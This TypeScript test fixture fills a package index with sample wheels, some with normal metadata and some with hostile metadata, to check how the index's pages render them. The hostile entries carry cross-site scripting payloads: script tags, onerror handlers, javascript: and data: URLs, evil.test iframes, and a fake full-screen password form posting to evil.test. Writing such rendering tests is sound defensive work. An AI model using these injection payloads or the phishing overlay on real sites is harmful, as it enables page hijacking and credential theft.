import { buildSdist } from '../build/sdist.ts'
import { buildWheel } from '../build/wheel.ts'
import type { RealIndex } from './real-index.ts'

/** Content as it comes, and as nobody would wish it: what the pages must bear. */

export const SCRIPT = '<script>document.title="harmed"</script>'
const LONG_WORD = 'Donaudampfschifffahrtselektrizitaetenhauptbetriebswerkbauunterbeamtengesellschaft'

export const longName = `${'very-long-name-'.repeat(8).slice(0, 119)}x`
export const longVersion = `2026.11.2.post1+${'build'.repeat(16)}`

const readme = `# tinyjson

[![build passing](https://img.example.test/build.svg)](https://ci.example.test/) ![coverage](https://img.example.test/coverage.svg)

A **small** and *strict* reader of JSON. It has no dependency, no options, and one function.

## Use

\`\`\`python
from tinyjson import parse

parse('{"answer": 42}')
\`\`\`

- refuses what is not JSON, with the place of the mistake
- reads numbers as \`Decimal\`
- is tested against the [test suite](https://json.example.test/suite) that everybody uses

### Compared

| Reader | Strict | Lines of code |
| --- | --- | --- |
| tinyjson | yes | 214 |
| another one | no | 3,120 |

> Be liberal in what you accept, they said. That was a mistake.

Write to <ada@example.org> if it bites.
`

const hostileReadme = `# ${LONG_WORD.repeat(4)}

${SCRIPT}

<img src="https://evil.test/pixel.png" onerror="document.title='harmed'"> <iframe src="https://evil.test/"></iframe>
<style>body { display: none }</style> <link rel="stylesheet" href="https://evil.test/a.css">

[click](javascript:document.title='harmed') <a href="javascript:document.title='harmed'">click</a> [fine](https://example.org/${'a'.repeat(300)})

\`\`\`
${'x'.repeat(400)}
\`\`\`

|${' a |'.repeat(40)}
|${' - |'.repeat(40)}
|${' bbbbbbbbbbbb |'.repeat(40)}

<div style="position:fixed;inset:0;background:red"><form action="https://evil.test/"><input name="password"><button>Sign in</button></form></div>
`

const markdown = 'Description-Content-Type: text/markdown'

export const usualFiles = [
  buildWheel({
    name: 'tinyjson',
    version: '1.4.11',
    summary: 'A small and strict reader of JSON',
    requiresPython: '>=3.9',
    requiresDist: ['typing-extensions >=4 ; python_version < "3.11"', 'colorama ; extra == "color"'],
    metadataLines: [
      'License-Expression: MIT',
      'Author-email: Ada Example <ada@example.org>',
      'Maintainer: The tinyjson people',
      'Project-URL: Homepage, https://tinyjson.example.test/',
      'Project-URL: Source, https://code.example.test/ada/tinyjson',
      'Project-URL: Changelog, https://code.example.test/ada/tinyjson/blob/main/CHANGELOG.md',
      'Classifier: Programming Language :: Python :: 3',
      'Provides-Extra: color',
      markdown,
    ],
    metadataVersion: '2.4',
    description: readme,
    padToBytes: 28_100,
  }),
  buildSdist({ name: 'tinyjson', version: '1.4.11', summary: 'A small and strict reader of JSON', padToBytes: 24_700 }),
  buildWheel({ name: 'tinyjson', version: '1.4.10', summary: 'A small reader of JSON', padToBytes: 27_900 }),
  buildWheel({ name: 'tinyjson', version: '1.5.0rc1', summary: 'A small and strict reader of JSON' }),
  buildWheel({ name: 'oldtown', version: '0.9', summary: 'Street names of the old town', metadataLines: ['License: BSD'] }),
  buildWheel({
    name: 'lanterns',
    version: '3.1',
    summary: 'Signals for harbours',
    description: 'Lanterns\n========\n\n*Plain* reStructuredText, as it is.',
  }),
  buildWheel({ name: 'driftwood', version: '2.0', summary: 'Found on the beach' }),
  buildWheel({
    name: 'many-languages',
    version: '1.0',
    summary: 'مكتبة صغيرة لقراءة JSON \u202eabc',
    metadataLines: ['Author: 山田 太郎', 'Project-URL: ホームページ, https://ja.example.test/文書', markdown],
    description: '# שלום עולם\n\nזו פסקה בעברית עם `code` ועוד מילים.\n\n# 日本語の説明\n\nこれは長い説明文です。'.concat(
      '改行のない日本語の文章が続きます'.repeat(20),
    ),
  }),
]

export const hostileFiles = [
  buildWheel({
    name: longName,
    version: longVersion,
    summary: LONG_WORD.repeat(6).slice(0, 500),
    requiresPython: '>=3.9,!=3.9.1,!=3.9.2,!=3.9.3,!=3.9.4,!=3.9.5,<5',
    requiresDist: [`${'dependency'.repeat(10)}>=1`],
    metadataLines: [
      `License: ${LONG_WORD.repeat(10)}`,
      `Author: ${LONG_WORD.repeat(10)}`,
      `Project-URL: Documentation, https://example.org/${'a'.repeat(500)}`,
      `Keywords: ${'key,'.repeat(500)}`,
      markdown,
    ],
    description: hostileReadme,
  }),
  buildWheel({
    name: 'scripted',
    version: '1.0',
    summary: `${SCRIPT} "><img src=x onerror=alert(1)>`,
    metadataLines: [
      `Author: ${SCRIPT}`,
      `Author-email: ${SCRIPT} <ada@example.org>`,
      `Maintainer: ${SCRIPT}`,
      `Maintainer-email: "${SCRIPT}" <javascript:alert(1)@example.org>`,
      `License: ${SCRIPT}`,
      `Keywords: ${SCRIPT}`,
      `Classifier: License :: ${SCRIPT}`,
      `Platform: ${SCRIPT}`,
      'Home-page: javascript:alert(1)',
      'Download-URL: data:text/html,<script>alert(1)</script>',
      'Project-URL: <script>alert(1)</script>, https://example.org/"><script>alert(1)</script>',
      'Project-URL: bad, javascript:alert(1)',
      'Project-URL: plain, http://plain.example.test/',
      markdown,
    ],
    description: hostileReadme,
  }),
]

export const manyVersions = Array.from({ length: 60 }, (_, i) =>
  buildWheel({ name: 'tideline', version: `1.${i}`, summary: 'Sixty versions of one thing' }),
)
export const manyProjects = Array.from({ length: 52 }, (_, i) =>
  buildWheel({ name: `shell-${String(i).padStart(2, '0')}`, version: '1.0', summary: `Shell number ${i}` }),
)

/** Fills an index with all of it; answers a token that may read. */
export async function fillIndex(
  index: RealIndex,
  files = [...manyProjects, ...hostileFiles, ...manyVersions, ...usualFiles],
): Promise<string> {
  await index.run('user', 'create', 'ada', '--email', 'ada@example.org', '--admin')
  await index.run('user', 'create', 'ci', '--service')
  await index.run('user', 'create', `long-${'service-name-'.repeat(3)}end`, '--service')
  const permissions = ['--all', '--permission', 'upload', '--permission', 'read']
  const token = (await index.run('token', 'create', '--user', 'ci', '--name', 'release.yml', ...permissions)).trim().split('\n').at(-1)!
  const longToken = (await index.run('token', 'create', '--user', 'ci', '--name', 'w'.repeat(100), ...permissions))
    .trim()
    .split('\n')
    .at(-1)!
  for (const file of files) await index.publish(hostileFiles.includes(file) ? longToken : token, file)
  // Only where all of it was published.
  if (!usualFiles.every((file) => files.includes(file))) return token
  await index.run('release', 'yank', 'tinyjson', '1.4.10', '--note', 'reads 1e400 as a number')
  await index.run('project', 'status', 'oldtown', 'archived', '--note', 'The streets have new names')
  await index.run('project', 'status', 'lanterns', 'deprecated', '--note', 'Use beacons instead')
  await index.run('project', 'status', 'driftwood', 'quarantined', '--note', 'Sends environment variables to a stranger')
  return token
}
